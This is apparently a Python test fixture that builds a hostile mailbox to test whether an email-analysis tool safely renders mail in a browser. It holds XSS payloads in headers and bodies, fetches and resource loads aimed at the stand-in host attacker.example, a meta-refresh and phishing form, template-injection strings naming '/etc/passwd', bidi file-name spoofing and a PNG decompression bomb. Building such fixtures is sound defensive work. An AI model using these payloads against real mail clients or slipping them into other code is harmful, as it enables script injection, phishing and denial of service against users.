"""A mailbox whose every mail attacks the analyst's browser. All hosts are reserved names."""

import base64
import io
import struct
import zlib
from pathlib import Path

from PIL import Image

OUTSIDE = "attacker.example"
"""Where every attack would call home."""

_HTML = {
    "script": '<script>document.title="owned";fetch("http://{o}/s")</script><p>visible words</p>',
    "handlers": '<img src=x onerror="document.title=\'owned\'"><body onload="alert(1)">'
    '<p onmouseover=alert(1)>words <a href="javascript:alert(1)" onclick=alert(1)>click</a></p>',
    "css": "<style>@import url(http://{o}/i.css); body{{background:url(http://{o}/b.png)}}</style>"
    '<div style="position:fixed;top:0;left:0;width:9999px;height:9999px;background:url(//{o}/p)">'
    "covering</div><link rel=stylesheet href=http://{o}/l.css>",
    "svg": '<svg onload=alert(1)><image href="http://{o}/x.svg"/><script>alert(1)</script>'
    '<foreignObject><iframe src="http://{o}/f"></iframe></foreignObject></svg><b>after</b>',
    "refresh": '<meta http-equiv="refresh" content="0;url=http://{o}/r"><base href="http://{o}/">'
    '<a href="login">log in</a><form action="http://{o}/f"><input name=p></form>',
    "frames": '<iframe src="http://{o}/1"></iframe><object data="http://{o}/2"></object>'
    '<embed src="http://{o}/3"><video src="http://{o}/4" autoplay></video><audio src=//{o}/5>'
    "</audio><picture><source srcset=//{o}/6><img srcset=//{o}/7 src=//{o}/8></picture>",
    "escape": "</div></body></html></iframe></textarea></title><script>alert(1)</script>"
    "{{{{ 7*7 }}}} {{% raw %}} <!--<img src=x onerror=alert(1)>--><![CDATA[<script>alert(1)"
    "</script>]]><svg><style><img src=x onerror=alert(1)></style></svg>"
    '<p title="</p><script>alert(1)</script>">t</p>&lt;script&gt;alert(1)&lt;/script&gt;',
    "deep": "<div>" * 30_000 + "bottom" + "</div>" * 10,
    "broken": "<a <b <c <" * 5_000 + "<!-- never closed <script>alert(1)</script>",
}


def write_hostile(path: Path) -> Path:
    """Write the mailbox; two mails of every attack, so that some become campaigns."""
    mails = [
        _mail(
            10 * number + copy,
            f"<img src=x onerror=alert(1)> {name} </title><script>alert(1)</script>",
            html.format(o=OUTSIDE).encode(),
        )
        for number, (name, html) in enumerate(_HTML.items())
        for copy in range(2)
    ]
    mails.append(_mail(900, "x" * 5_000_000, b"a subject of five megabytes"))
    mails.append(
        _mail(
            901, "invoice \u202egnp.exe\u202c \u200b\u2066hidden\u2069 \x1b[31mred\x07",
            "right \u202eto left\u202c text".encode(), name='\u202eelpmaxe\u202c" onfocus=x',
        )
    )  # fmt: skip
    mails.append(_mail(902, "{{ 7*7 }} {% include '/etc/passwd' %} ${7*7}", b"templates"))
    mails.append(_with_picture(903, _bomb()))
    mails.append(_with_picture(904, _png()))
    mails.append(_nested(905))
    path.write_bytes(b"".join(b"From x Mon Oct  1 10:00:00 2007\n" + m + b"\n\n" for m in mails))
    return path


def _head(number: int, subject: str, name: str = "<b onclick=alert(1)>Ann</b>") -> str:
    return (
        f"Received: from <script>alert({number})</script> (unknown [198.51.100.{number % 250 + 1}])"
        f"\n\tby mx.trap.example (Postfix) with SMTP id A{number}"
        f"\n\tfor <trap@trap.example>; Mon, 01 Oct 2007 10:{number % 60:02}:00 +0000\n"
        f'From: "{name}" <a{number}@{OUTSIDE}>\nTo: trap@trap.example\nSubject: {subject}\n'
        f'Message-ID: <"><script>alert(1)</script>{number}@{OUTSIDE}>\n'
        f"X-Evil: <script>alert(1)</script>\nDate: Mon, 01 Oct 2007 10:00:00 +0000\n"
    )


def _mail(
    number: int, subject: str, html: bytes, name: str = "<b onclick=alert(1)>Ann</b>"
) -> bytes:
    head = _head(number, subject, name)
    return (head + "MIME-Version: 1.0\nContent-Type: text/html; charset=utf-8\n\n").encode() + html


def _with_picture(number: int, picture: bytes) -> bytes:
    return (
        _head(number, f"picture {number}") + 'MIME-Version: 1.0\nContent-Type: multipart/related; '
        'boundary="b"\n\n--b\nContent-Type: text/html\n\n<p>see <img src="cid:p"></p>\n--b\n'
        'Content-Type: image/png; name="<script>alert(1)</script>.png"\nContent-ID: <p>\n'
        "Content-Transfer-Encoding: base64\n\n"
    ).encode() + base64.encodebytes(picture) + b"--b--\n"  # fmt: skip


def _nested(number: int) -> bytes:
    """Three hundred multiparts, one within the other."""
    body = "".join(
        f'Content-Type: multipart/mixed; boundary="n{n}"\n\n--n{n}\n' for n in range(300)
    )
    return (_head(number, "nested") + "MIME-Version: 1.0\n" + body + "\nthe end\n").encode()


def _png() -> bytes:
    out = io.BytesIO()
    Image.new("RGB", (40, 20), (200, 40, 40)).save(out, "PNG")
    return out.getvalue()


def _bomb() -> bytes:
    """A PNG of some kilobytes that claims four thousand million pixels."""

    def chunk(kind: bytes, data: bytes) -> bytes:
        return (
            struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))
        )

    head = struct.pack(">IIBBBBB", 65_000, 65_000, 8, 2, 0, 0, 0)
    rows = zlib.compress(b"\0" * 1_000_000)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", head) + chunk(b"IDAT", rows) + chunk(b"IEND", b"")
